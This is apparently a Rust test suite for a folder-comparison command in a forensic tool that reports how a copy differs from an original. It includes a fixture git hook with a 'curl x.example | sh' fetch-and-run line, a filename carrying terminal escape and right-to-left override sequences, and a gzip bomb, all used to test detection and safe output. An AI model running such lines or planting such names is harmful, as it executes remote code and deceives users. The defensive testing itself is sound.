//! `compare`: what a copy added, changed and dropped, held against what other programs say of the same two folders.

mod common;

use std::collections::BTreeMap;
use std::ffi::OsStr;
use std::os::unix::ffi::OsStrExt;
use std::path::Path;

use common::{Records, fixtures, git, incident, lines, python, run, scratch, sign_incident};
use serde_json::Value;

/// Compares with `--jsonl -` and gives the records.
#[track_caller]
fn compare<S: AsRef<OsStr>>(status: i32, arguments: impl IntoIterator<Item = S>) -> Records {
    let mut all = vec![
        OsStr::new("compare").to_owned(),
        "--jsonl".into(),
        "-".into(),
    ];
    all.extend(arguments.into_iter().map(|one| one.as_ref().to_owned()));
    let records = run(all).expect(status).records();
    records.check_frame();
    records
}

#[track_caller]
fn whole(records: &Records) -> &Value {
    let mut all = records.all("comparison");
    let first = all.next().expect("a comparison");
    assert!(all.next().is_none(), "one comparison");
    first
}

fn counts(whole: &Value) -> [u64; 7] {
    let kinds = [
        "equal",
        "reformatted",
        "moved",
        "changed",
        "added",
        "removed",
        "unread",
    ];
    kinds.map(|kind| whole["files"][kind].as_u64().expect("a count"))
}

/// Kind, and path in either tree, of each change.
fn changes(records: &Records) -> Vec<String> {
    let text = |value: &Value| value.as_str().unwrap_or("-").to_owned();
    let mut rows: Vec<String> = records
        .all("change")
        .map(|row| {
            format!(
                "{} {} {}",
                text(&row["kind"]),
                text(&row["original"]),
                text(&row["path"])
            )
        })
        .collect();
    rows.sort();
    rows
}

fn write(folder: &Path, files: &[(&str, &[u8])]) {
    for (path, bytes) in files {
        let path = folder.join(path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, bytes).unwrap();
    }
}

/// A program of some lines, no two of which are alike.
fn program(seed: u64, lines: u64) -> Vec<u8> {
    let line = |n: u64| {
        format!(
            "export const v{} = call({seed}, {});\n",
            seed * 10_000 + n,
            n * 31
        )
    };
    (0..lines).map(line).collect::<String>().into_bytes()
}

#[test]
fn a_tree_has_no_changes_from_itself() {
    let tree = incident().join("acme-cli");
    let records = compare(0, [&tree, &tree]);
    let whole = whole(&records);
    assert_eq!(counts(whole)[1..], [0; 6]);
    assert!(counts(whole)[0] > 40);
    assert_eq!(whole["bytes_held"], whole["bytes_original"]);
    assert_eq!(
        (&whole["bytes_outside"], &whole["complete"]),
        (&0.into(), &true.into())
    );
    assert!(changes(&records).is_empty());
    run(["compare".as_ref(), tree.as_os_str(), tree.as_os_str()])
        .expect(0)
        .prints("100 % of the original's bytes");
}

#[test]
fn every_kind_of_change_is_told() {
    let folder = scratch();
    let (a, b) = (folder.path().join("original"), folder.path().join("copy"));
    let crlf = String::from_utf8(program(2, 9))
        .unwrap()
        .replace('\n', "\r\n");
    let edited = [&program(4, 9)[..], b"evil();\n"].concat();
    write(
        &a,
        &[
            ("a.js", &program(1, 9)),
            ("b.js", &program(2, 9)),
            ("c.js", &program(3, 9)),
            ("d.js", &program(4, 9)),
            ("e.js", &program(5, 9)),
        ],
    );
    write(
        &b,
        &[
            ("a.js", &program(1, 9)),
            ("b.js", crlf.as_bytes()),
            ("lib/c.js", &program(3, 9)),
            ("d.js", &edited),
            ("n.bin", b"\0\x01\x02"),
        ],
    );
    let records = compare(0, [&a, &b]);
    assert_eq!(
        changes(&records),
        [
            "added - n.bin",
            "changed d.js d.js",
            "moved c.js lib/c.js",
            "reformatted b.js b.js",
            "removed e.js -",
        ]
    );
    assert_eq!(counts(whole(&records)), [1, 1, 1, 1, 1, 1, 0]);
    let changed = records
        .all("change")
        .find(|row| row["kind"] == "changed")
        .unwrap();
    assert_eq!(changed["outside"], serde_json::json!([[10, 10]]));
    assert_eq!(
        (&changed["lines_added"], &changed["lines_removed"]),
        (&1.into(), &0.into())
    );
    assert_eq!(whole(&records)["bytes_outside"], 8 + 3);
    assert_eq!(
        records
            .locators("change")
            .iter()
            .filter(|at| **at == "copy/d.js")
            .count(),
        1
    );
}

/// Which packages there are to make copies of; none where they were not fetched.
fn packages() -> Vec<std::path::PathBuf> {
    let names = ["eslint-10.15.0.tgz", "leaflet-1.9.4.tgz"];
    let paths = names.map(|name| fixtures().join("packages").join(name));
    paths.into_iter().filter(|path| path.exists()).collect()
}

/// Makes a copy of a folder with random edits: lines put in, taken out and exchanged, files added, dropped and renamed.
const EDIT: &str = "
import os, random, shutil, sys
source, target, seed = sys.argv[1], sys.argv[2], int(sys.argv[3])
r = random.Random(seed)
shutil.copytree(source, target)
paths = sorted(os.path.join(d, f) for d, _, fs in os.walk(target) for f in fs)
texts = [p for p in paths if p.endswith(('.js', '.ts', '.md', '.json')) and os.path.getsize(p) < 400000]
for n, path in enumerate(r.sample(texts, min(len(texts), 60))):
    lines = open(path, 'rb').read().split(b'\\n')
    for _ in range(r.randint(1, 12)):
        at = r.randrange(len(lines))
        what = r.randrange(3)
        if what == 0: lines.insert(at, b'put in %d %d' % (n, r.randrange(10 ** 9)))
        elif what == 1 and len(lines) > 1: del lines[at]
        else: lines[at] = b'exchanged %d %d' % (n, r.randrange(10 ** 9))
    open(path, 'wb').write(b'\\n'.join(lines))
for n in range(5):
    open(os.path.join(target, 'new-%d.txt' % n), 'w').write('new file %d\\n' % n * 20)
for path in r.sample(paths, min(len(paths), 8)):
    os.remove(path)
";

/// Which files two folders have, by Python's own comparison of folders, bytes held against bytes.
const FILES: &str = "
import filecmp, json, os, sys
a, b = sys.argv[1:3]
def files(top):
    return {os.path.relpath(os.path.join(d, f), top) for d, _, fs in os.walk(top) for f in fs}
x, y = files(a), files(b)
same, other, errors = filecmp.cmpfiles(a, b, sorted(x & y), shallow=False)
print(json.dumps({'same': len(same), 'other': sorted(other), 'only_a': sorted(x - y), 'only_b': sorted(y - x)}))
";

#[test]
fn real_packages_with_random_edits_are_as_git_and_python_say() {
    let folder = scratch();
    for (seed, package) in packages().iter().enumerate() {
        let name = format!("p{seed}");
        let (a, b) = (
            folder.path().join(format!("{name}-a")),
            folder.path().join(format!("{name}-b")),
        );
        let unpack =
            "import sys, tarfile; tarfile.open(sys.argv[1]).extractall(sys.argv[2], filter='data')";
        python([
            "-c".as_ref(),
            unpack.as_ref(),
            package.as_os_str(),
            a.as_os_str(),
        ]);
        let number = seed.to_string();
        python([
            "-c".as_ref(),
            EDIT.as_ref(),
            a.as_os_str(),
            b.as_os_str(),
            number.as_ref(),
        ]);
        let records = compare(0, [&a, &b]);
        check_files(&a, &b, &records);
        check_lines(folder.path(), &a, &b, &records);
        // The package itself is the same original as what was unpacked of it, but for the folder round it.
        let packed = compare(0, [package.as_path(), &b.join("package")]);
        let moved = whole(&packed)["files"]["moved"].as_u64().unwrap();
        assert_eq!(
            counts(whole(&packed))[0],
            counts(whole(&records))[0],
            "{moved} moved"
        );
    }
}

/// Files of both sides are as Python finds them.
#[track_caller]
fn check_files(a: &Path, b: &Path, records: &Records) {
    let said = python(["-c".as_ref(), FILES.as_ref(), a.as_os_str(), b.as_os_str()]);
    let said: Value = serde_json::from_slice(&said).unwrap();
    let list = |key: &str| -> Vec<String> {
        let rows = said[key].as_array().unwrap().iter();
        rows.map(|row| row.as_str().unwrap().to_owned()).collect()
    };
    let of = |kinds: &[&str], field: &str| -> Vec<String> {
        let rows = records
            .all("change")
            .filter(|row| kinds.contains(&row["kind"].as_str().unwrap()));
        let rows = rows.filter(|row| row[field].is_string());
        rows.map(|row| row[field].as_str().unwrap().to_owned())
            .collect()
    };
    let sorted = |mut rows: Vec<String>| {
        rows.sort();
        rows
    };
    // What stands within of a map or an archive has no file of its own.
    let files = |rows: Vec<String>| {
        rows.into_iter()
            .filter(|path| !path.contains("!/"))
            .collect()
    };
    let at_home = |row: &&Value| row["path"] == row["original"];
    let changed = records.all("change").filter(at_home);
    let changed = changed
        .map(|row| row["path"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(sorted(files(changed)), list("other"));
    let strangers = list("only_b");
    assert!(
        files(of(&["added"], "path"))
            .iter()
            .all(|path: &String| strangers.contains(path))
    );
    assert!(strangers.len() >= 5);
    let gone: Vec<String> = files(of(&["removed"], "original"));
    assert!(gone.iter().all(|path| list("only_a").contains(path)));
    assert!(list("only_a").len() >= 8);
}

/// Lines of changed files are as many as git says, within what its shortest way leaves open.
#[track_caller]
fn check_lines(folder: &Path, a: &Path, b: &Path, records: &Records) {
    let mut command = std::process::Command::new("git");
    command.current_dir(folder).args([
        "diff",
        "--no-index",
        "--no-renames",
        "--numstat",
        "-z",
        "--minimal",
    ]);
    command
        .args(["--ignore-space-at-eol"])
        .arg(a.file_name().unwrap())
        .arg(b.file_name().unwrap());
    let output = command
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .output()
        .unwrap();
    let fields: Vec<&[u8]> = output.stdout.split(|&byte| byte == 0).collect();
    let prefix = format!("{}/", b.file_name().unwrap().to_str().unwrap());
    let mut said = BTreeMap::new();
    for row in fields.windows(3) {
        let text = |bytes: &[u8]| String::from_utf8(bytes.to_vec()).unwrap();
        let (numbers, path) = (text(row[0]), text(row[2]));
        let mut numbers = numbers.split('\t').map(|number| number.parse::<i64>().ok());
        if let (Some(Some(added)), Some(Some(removed)), Some(path)) =
            (numbers.next(), numbers.next(), path.strip_prefix(&prefix))
        {
            said.insert(path.to_owned(), (added, removed));
        }
    }
    let mut checked = 0;
    for row in records
        .all("change")
        .filter(|row| row["kind"] == "changed" && row["path"] == row["original"])
    {
        let Some((added, removed)) = said.get(row["path"].as_str().unwrap()) else {
            continue;
        };
        let (Some(ours), Some(less)) = (row["lines_added"].as_i64(), row["lines_removed"].as_i64())
        else {
            continue;
        };
        checked += 1;
        // Where the two texts end does not depend on the way between them; only git has the shortest one.
        assert_eq!(ours - less, added - removed, "{row}");
        assert!(
            ours >= *added && ours <= added + 8,
            "{row}: {added} {removed}"
        );
        let path = row["path"].as_str().unwrap();
        outside_is_new(
            &std::fs::read(a.join(path)).unwrap(),
            &std::fs::read(b.join(path)).unwrap(),
            row,
        );
    }
    assert!(checked >= 10, "{checked}");
}

/// Lines that were put in and stand nowhere in the original are all among those that are named.
#[track_caller]
fn outside_is_new(original: &[u8], copy: &[u8], row: &Value) {
    let split = |bytes: &[u8]| -> Vec<Vec<u8>> {
        let lines = bytes.split(|&byte| byte == b'\n');
        lines.map(|line| line.trim_ascii_end().to_vec()).collect()
    };
    let held: std::collections::BTreeSet<Vec<u8>> = split(original).into_iter().collect();
    let stretches: Vec<[u64; 2]> = serde_json::from_value(row["outside"].clone()).unwrap();
    for (number, line) in (1..).zip(split(copy)) {
        let is_named = stretches
            .iter()
            .any(|[from, to]| (*from..=*to).contains(&number));
        assert!(
            is_named || line.is_empty() || held.contains(&line),
            "line {number} of {row}"
        );
    }
}

#[test]
fn a_copy_is_the_same_whatever_it_was_packed_in() {
    let folder = scratch();
    let original = folder.path().join("work");
    write(
        &original,
        &[
            ("a.js", &program(1, 20)),
            ("src/b.js", &program(2, 20)),
            ("src/c.json", b"{\"a\": 1}\n"),
        ],
    );
    let pack = "
import io, os, sys, tarfile, zipfile
top, out = sys.argv[1:3]
files = [(os.path.relpath(os.path.join(d, f), top), os.path.join(d, f)) for d, _, fs in os.walk(top) for f in fs]
with tarfile.open(os.path.join(out, 'a.tgz'), 'w:gz') as t:
    for name, path in files: t.add(path, 'package/' + name)
with zipfile.ZipFile(os.path.join(out, 'b.zip'), 'w') as z:
    for name, path in files: z.write(path, 'repo-main/' + name)
with zipfile.ZipFile(os.path.join(out, 'c.zip'), 'w') as z:
    for name, path in files: z.write(path, name)
";
    python([
        "-c".as_ref(),
        pack.as_ref(),
        original.as_os_str(),
        folder.path().as_os_str(),
    ]);
    let clone = folder.path().join("clone");
    std::fs::create_dir(&clone).unwrap();
    for name in ["a.js", "src/b.js", "src/c.json"] {
        let to = clone.join("w").join(name);
        std::fs::create_dir_all(to.parent().unwrap()).unwrap();
        std::fs::copy(original.join(name), to).unwrap();
    }
    let repository = clone.join("w");
    git(&repository, ["init", "-q"]);
    git(&repository, ["add", "."]);
    git(&repository, ["commit", "-qm", "first"]);
    git(
        folder.path(),
        ["clone", "-q", "--bare", "clone/w", "bare.git"],
    );
    git(
        &repository,
        ["bundle", "create", "-q", "../../work.bundle", "--all"],
    );
    for copy in [
        "a.tgz",
        "b.zip",
        "c.zip",
        "clone/w",
        "clone",
        "bare.git",
        "work.bundle",
    ] {
        let records = compare(0, [&original, &folder.path().join(copy)]);
        assert_eq!(counts(whole(&records)), [3, 0, 0, 0, 0, 0, 0], "{copy}");
        let back = compare(0, [&folder.path().join(copy), &original]);
        assert_eq!(
            counts(whole(&back)),
            [3, 0, 0, 0, 0, 0, 0],
            "{copy} as the original"
        );
    }
}

#[test]
fn recovered_sources_are_found_in_the_map_that_they_came_from() {
    let folder = scratch();
    let (a, b) = (folder.path().join("package"), folder.path().join("copy"));
    let (one, two) = (program(1, 20), program(2, 20));
    let text = |bytes: &[u8]| String::from_utf8(bytes.to_vec()).unwrap();
    let map = serde_json::json!({
        "version": 3, "file": "cli.js", "names": [], "mappings": "AAAA",
        "sources": ["../src/one.ts", "../src/two.ts"],
        "sourcesContent": [text(&one), text(&two)],
    });
    write(
        &a,
        &[
            ("cli.js", b"x();\n//# sourceMappingURL=cli.js.map\n"),
            ("cli.js.map", map.to_string().as_bytes()),
        ],
    );
    let edited = [&two[..], b"more();\n"].concat();
    write(&b, &[("src/one.ts", &one), ("src/two.ts", &edited)]);
    let records = compare(0, [&a, &b]);
    assert_eq!(
        changes(&records),
        [
            "changed cli.js.map!/../src/two.ts src/two.ts",
            "moved cli.js.map!/../src/one.ts src/one.ts",
            "removed cli.js -",
            "removed cli.js.map -",
        ]
    );
    // A map that is given by itself is the tree of its sources.
    let records = compare(0, [&a.join("cli.js.map"), &b]);
    assert_eq!(
        counts(whole(&records)),
        [1, 0, 0, 1, 0, 0, 0],
        "{:?}",
        changes(&records)
    );
}

#[test]
fn what_an_added_archive_holds_is_told() {
    let folder = scratch();
    let (a, b) = (folder.path().join("a"), folder.path().join("b"));
    write(&a, &[("x.js", &program(1, 9))]);
    write(&b, &[("x.js", &program(1, 9))]);
    let pack = "
import sys, zipfile
with zipfile.ZipFile(sys.argv[1], 'w', zipfile.ZIP_DEFLATED) as z:
    z.writestr('tool/run.exe', b'MZ' + bytes(500)); z.writestr('tool/readme.txt', 'read me\\n' * 9)
";
    python(["-c".as_ref(), pack.as_ref(), b.join("v3.5.zip").as_os_str()]);
    let records = compare(0, [&a, &b]);
    assert_eq!(
        changes(&records),
        [
            "added - v3.5.zip",
            "added - v3.5.zip!/tool/readme.txt",
            "added - v3.5.zip!/tool/run.exe"
        ]
    );
    // Its bytes are those of what it holds, and count once.
    assert_eq!(whole(&records)["bytes_outside"], 502 + 72);
    records.at("change", "b/v3.5.zip!/tool/run.exe");
}

#[test]
fn many_members_of_one_name_take_no_long_time() {
    let folder = scratch();
    let pack = "
import sys, zipfile, warnings
warnings.simplefilter('ignore')
with zipfile.ZipFile(sys.argv[1], 'w') as z:
    for n in range(20000): z.writestr('x.js', 'one and the same, once more\\n')
";
    let zip = folder.path().join("many.zip");
    python(["-c".as_ref(), pack.as_ref(), zip.as_os_str()]);
    let other = folder.path().join("other");
    write(
        &other,
        &[
            ("a/y.js", b"one and the same, once more\n"),
            ("a/x.js", b"another\n"),
        ],
    );
    let started = std::time::Instant::now();
    let records = compare(0, [&other, &zip]);
    assert_eq!(counts(whole(&records))[2..5], [19_999, 1, 0]);
    let back = compare(0, [&zip, &other]);
    assert_eq!(counts(whole(&back))[5], 19_998);
    assert!(started.elapsed().as_secs() < 120, "{:?}", started.elapsed());
}

#[test]
fn hooks_that_git_runs_are_files_of_a_copy() {
    let folder = scratch();
    let (a, b) = (folder.path().join("a"), folder.path().join("b"));
    for side in [&a, &b] {
        write(side, &[("x.js", &program(1, 9))]);
        git(side, ["init", "-q"]);
    }
    write(
        &b,
        &[(
            ".git/hooks/post-checkout",
            b"#!/bin/sh\ncurl x.example | sh\n",
        )],
    );
    // git runs none that is called so.
    write(&b, &[(".git/hooks/odd.sample", b"#!/bin/sh\n")]);
    let records = compare(0, [&a, &b]);
    assert_eq!(changes(&records), ["added - .git/hooks/post-checkout"]);
    records.at("change", "b/.git!/hooks/post-checkout");
}

#[test]
fn hostile_names_and_contents_do_no_harm() {
    let folder = scratch();
    let (a, b) = (folder.path().join("a"), folder.path().join("b"));
    let lines = |last: &str| -> Vec<u8> {
        let all = (0..100_000).map(|n| format!("line {}\n", n % 5_000));
        (all.collect::<String>() + last).into_bytes()
    };
    write(
        &a,
        &[
            ("folder", b"a file here\n"),
            ("long.txt", &lines("end\n")),
            ("empty", b""),
        ],
    );
    write(
        &b,
        &[
            ("folder/file", b"a folder here\n"),
            ("long.txt", &lines("other\n")),
            ("empty", b""),
        ],
    );
    let odd = OsStr::from_bytes(b"new\n\x1b[2J\xff\xe2\x80\xae.js");
    std::fs::write(b.join(odd), "\u{1b}]0;owned\u{7}\u{202e}\n").unwrap();
    let records = compare(0, [&a, &b]);
    assert_eq!(
        counts(whole(&records)),
        [1, 0, 0, 1, 2, 1, 0],
        "{:?}",
        changes(&records)
    );
    let long = records.at("change", "b/long.txt");
    assert_eq!(
        (&long["lines_added"], &long["lines_removed"]),
        (&1.into(), &1.into())
    );
    for extra in [&[][..], &["--diff", "-"]] {
        let mut arguments: Vec<&OsStr> = vec!["compare".as_ref(), a.as_os_str(), b.as_os_str()];
        arguments.extend(extra.iter().map(OsStr::new));
        let ran = run(arguments).expect(0);
        let bad = ran
            .text()
            .chars()
            .any(|c| (c.is_control() && c != '\n' && c != '\t') || c == '\u{202e}');
        assert!(!bad, "{ran}");
    }
}

#[test]
fn folders_without_files_and_binary_files_are_compared() {
    let folder = scratch();
    let (a, b, none) = (
        folder.path().join("a"),
        folder.path().join("b"),
        folder.path().join("none"),
    );
    std::fs::create_dir(&none).unwrap();
    write(&a, &[("x.bin", &[0, 1, 2, 3])]);
    write(&b, &[("x.bin", &[0, 1, 2, 4, 5])]);
    let records = compare(0, [&a, &b]);
    let change = records.at("change", "b/x.bin");
    assert_eq!(
        (&change["kind"], &change["lines_added"]),
        (&"changed".into(), &Value::Null)
    );
    assert_eq!(whole(&records)["bytes_outside"], 5);
    assert_eq!(counts(whole(&compare(0, [&none, &none]))), [0; 7]);
    assert_eq!(counts(whole(&compare(0, [&none, &a])))[4], 1);
    assert_eq!(counts(whole(&compare(0, [&a, &none])))[5], 1);
}

#[test]
fn what_cannot_be_read_is_said_and_the_rest_is_compared() {
    let folder = scratch();
    let (a, b) = (folder.path().join("a"), folder.path().join("b"));
    write(&a, &[("x.js", &program(1, 9)), ("y.js", &program(2, 9))]);
    write(&b, &[("x.js", &program(1, 9)), ("y.js", &program(3, 9))]);
    let bomb = "
import sys, gzip
with gzip.open(sys.argv[1], 'wb', 9) as z:
    for _ in range(64): z.write(bytes(1 << 20))
";
    python(["-c".as_ref(), bomb.as_ref(), b.join("bomb.gz").as_os_str()]);
    let mut arguments = vec![a.as_os_str(), b.as_os_str()];
    assert_eq!(counts(whole(&compare(0, arguments.clone())))[..1], [1]);
    arguments.extend(["--limit-bytes", "1M"].map(OsStr::new));
    let records = compare(3, arguments);
    assert_eq!(whole(&records)["complete"], false);
    assert!(
        records
            .problems()
            .iter()
            .any(|(code, _)| *code == "bytes-limit"),
        "{:?}",
        records.problems()
    );
    assert_eq!(counts(whole(&records))[3], 1);
    // More than may be held is not looked into, and said.
    let records = compare(
        3,
        [
            a.as_os_str(),
            b.as_os_str(),
            "--memory".as_ref(),
            "1K".as_ref(),
        ],
    );
    assert!(
        records
            .problems()
            .iter()
            .any(|(code, _)| *code == "memory-limit"),
        "{:?}",
        records.problems()
    );
    run([
        "compare".as_ref(),
        a.as_os_str(),
        OsStr::new("/nowhere/at/all"),
    ])
    .expect(2);
}

#[test]
fn threads_do_not_show() {
    let (original, copy) = (incident().join("acme-cli"), incident().join("copies"));
    let with = |jobs: &str| {
        let mut records = compare(
            0,
            [
                original.as_os_str(),
                copy.as_os_str(),
                "--jobs".as_ref(),
                jobs.as_ref(),
            ],
        );
        records.0.remove(0);
        records
    };
    assert_eq!(with("1"), with("4"));
}

/// The incident, scanned into a case.
fn case_of(folder: &Path, copies: &Path) -> std::path::PathBuf {
    let set = sign_incident(folder);
    // A case that lies in a copy is no part of it.
    let case = copies.join("verbatim/incident.case");
    let scan = [
        "scan".as_ref(),
        copies.as_os_str(),
        "--signatures".as_ref(),
        set.as_os_str(),
    ];
    let scan = scan
        .into_iter()
        .chain(["--case".as_ref(), case.as_os_str(), "--quiet".as_ref()]);
    run(scan);
    case
}

fn export(case: &Path) -> Records {
    let ran = run(["case".as_ref(), "export".as_ref(), case.as_os_str()]);
    ran.records()
}

#[test]
fn every_copy_of_a_case_is_compared_and_the_case_keeps_it() {
    let folder = scratch();
    let copies = folder.path().join("copies");
    copy_folder(&incident().join("copies"), &copies);
    let case = case_of(folder.path(), &copies);
    let original = incident().join("acme-cli/src");
    let before = export(&case);
    let roots: std::collections::BTreeSet<&str> = before.locators("copy").into_iter().collect();
    assert!(roots.len() >= 3, "{roots:?}");
    let arguments = [
        "compare".as_ref(),
        original.as_os_str(),
        "--case".as_ref(),
        case.as_os_str(),
    ];
    let ran = run(arguments);
    let of_case = export(&case);
    let compared: std::collections::BTreeSet<&str> =
        of_case.locators("comparison").into_iter().collect();
    assert_eq!(compared, roots, "{ran}");
    // Each by itself is the same.
    for root in ["copies/reformatted", "copies/archive.zip"]
        .iter()
        .filter(|root| roots.contains(*root))
    {
        let alone = run([
            "compare".as_ref(),
            "--jsonl".as_ref(),
            "-".as_ref(),
            original.as_os_str(),
            folder.path().join(root).as_os_str(),
        ]);
        let alone = alone.records();
        assert_eq!(
            counts(whole(&alone)),
            counts(of_case.at("comparison", root)),
            "{root}"
        );
    }
    let custody = run(["case".as_ref(), "custody".as_ref(), case.as_os_str()]).expect(0);
    assert!(custody.text().contains("compare"), "{custody}");
    // A second time replaces the first.
    run(arguments);
    let again = export(&case);
    assert_eq!(again, of_case);
    // One changes and one goes: nothing is told of them, the others are as before.
    let mut gone = roots
        .iter()
        .filter(|root| folder.path().join(root).is_dir() && **root != "copies/verbatim");
    let (changed, vanished) = (gone.next().unwrap(), gone.next().unwrap());
    std::fs::write(folder.path().join(changed).join("new-file.js"), "new();\n").unwrap();
    std::fs::remove_dir_all(folder.path().join(vanished)).unwrap();
    let ran = run(arguments).expect(3);
    assert!(
        ran.stderr.contains("changed-since-scan") && ran.stderr.contains("vanished"),
        "{ran}"
    );
    let third = export(&case);
    let problems = third.problems();
    assert!(
        problems.contains(&("changed-since-scan", changed))
            && problems.contains(&("vanished", vanished)),
        "{problems:?}"
    );
    assert_eq!(third.all("comparison").count(), roots.len() - 2);
    // A scan of what is there now forgets what was said of before, and says so.
    let set = folder.path().join("acme.sigset");
    let scan = [
        "scan".as_ref(),
        copies.as_os_str(),
        "--signatures".as_ref(),
        set.as_os_str(),
    ];
    let scan = scan
        .into_iter()
        .chain(["--case".as_ref(), case.as_os_str(), "--quiet".as_ref()]);
    let ran = run(scan).says("run `compare --case` again");
    drop(ran);
    assert_eq!(export(&case).all("comparison").count(), 0);
}

fn copy_folder(from: &Path, to: &Path) {
    let script = "import shutil, sys; shutil.copytree(sys.argv[1], sys.argv[2], symlinks=True)";
    python([
        "-c".as_ref(),
        script.as_ref(),
        from.as_os_str(),
        to.as_os_str(),
    ]);
}

#[test]
fn a_diff_is_what_it_says() {
    let folder = scratch();
    let (a, b) = (folder.path().join("a"), folder.path().join("b"));
    let mut edited = program(1, 40);
    edited.extend_from_slice(b"last();\n");
    write(&a, &[("x.js", &program(1, 40))]);
    write(&b, &[("x.js", &edited), ("new.txt", b"one\ntwo\n")]);
    let patch = folder.path().join("p.diff");
    run([
        "compare".as_ref(),
        a.as_os_str(),
        b.as_os_str(),
        "--diff".as_ref(),
        patch.as_os_str(),
        "--quiet".as_ref(),
    ])
    .expect(0);
    // git takes it for a diff, and gets the copy from the original with it.
    git(&a, ["apply".as_ref(), patch.as_os_str()]);
    assert_eq!(std::fs::read(a.join("x.js")).unwrap(), edited);
    assert_eq!(lines(&std::fs::read(a.join("new.txt")).unwrap()).count(), 2);
}
